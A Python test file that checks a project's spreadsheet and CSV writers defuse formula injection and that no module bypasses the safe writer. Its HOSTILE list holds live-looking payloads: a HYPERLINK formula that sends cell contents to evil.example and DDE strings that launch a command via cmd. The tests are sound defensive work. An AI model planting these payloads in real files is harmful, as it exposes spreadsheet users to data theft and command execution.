"""Formula injection: user text is never a live formula in an XLSX or CSV that THADS writes."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from thads.common.spreadsheets import (
    csv_dict_writer,
    csv_text,
    csv_writer,
    is_dangerous,
    new_workbook,
    workbook_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_dangerous(value):
    assert is_dangerous(value)


@pytest.mark.parametrize("value", ["-1.50", "+3", "12,5", "Nguyễn Văn A", "", "15/QĐ-THADS", 5])
def test_ordinary_values_are_left_alone(value):
    assert not is_dangerous(value)
    assert csv_text(value) == value


def test_xlsx_cells_are_text_whatever_way_they_were_written():
    wb = new_workbook()
    ws = wb.active
    ws.append(HOSTILE)
    for column, value in enumerate(HOSTILE, start=1):
        ws.cell(row=2, column=column, value=value)
    ws["A3"] = HOSTILE[0]
    ws.append([1234567, "Bình thường", -5])
    out = io.BytesIO()
    wb.save(out)
    for content in (out.getvalue(), workbook_bytes(wb)):
        with zipfile.ZipFile(io.BytesIO(content)) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet  # no formula element at all
        back = load_workbook(io.BytesIO(content)).active
        # A lone CR survives or becomes LF depending on the XML writer (lxml or not).
        stored = [v.replace("\r", "\n") for v in HOSTILE]
        assert [c.value.replace("\r", "\n") for c in back[1]] == stored
        assert [c.value.replace("\r", "\n") for c in back[2]] == stored
        assert back["A3"].value == HOSTILE[0]
        assert all(c.data_type == "s" and c.quotePrefix for c in back[1])
        assert [c.value for c in back[4]][:3] == [1234567, "Bình thường", -5]


def test_csv_fields_get_an_apostrophe():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["Mã", *HOSTILE, 5, "-1.50"])
    dict_out = io.StringIO()
    dict_writer = csv_dict_writer(dict_out, ["a", "b"], lineterminator="\n")
    dict_writer.writeheader()
    dict_writer.writerow({"a": HOSTILE[1], "b": 3})
    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["Mã", *("'" + v.replace("\r", "\n") for v in HOSTILE), "5", "-1.50"]
    assert list(csv.reader(io.StringIO(dict_out.getvalue())))[1] == ["'" + HOSTILE[1], "3"]


# ---- every writer goes through common.spreadsheets ------------------------------------------

ROOT = Path(__file__).resolve().parents[2]  # thads/
ALLOWED = {ROOT / "common" / "spreadsheets.py"}


def _production_modules():
    for path in sorted(ROOT.rglob("*.py")):
        parts = path.relative_to(ROOT).parts
        if "tests" in parts or parts[0] == "testing" or "migrations" in parts:
            continue
        if path not in ALLOWED:
            yield path


def test_no_spreadsheet_writer_bypasses_the_safe_one():
    """openpyxl's Workbook and the csv writers are used only in common/spreadsheets.py: use
    `new_workbook()` and `csv_writer()` / `csv_dict_writer()` from there instead."""
    offenders = []
    for path in _production_modules():
        tree = ast.parse(path.read_text("utf-8"))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.ImportFrom)
                and node.module
                and node.module.startswith("openpyxl")
            ) and any(alias.name == "Workbook" for alias in node.names):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} Workbook")
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter", "Workbook"}
                and isinstance(node.value, ast.Name)
                and node.value.id in {"csv", "openpyxl"}
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {node.attr}")
    assert offenders == [], "write spreadsheets through thads.common.spreadsheets"
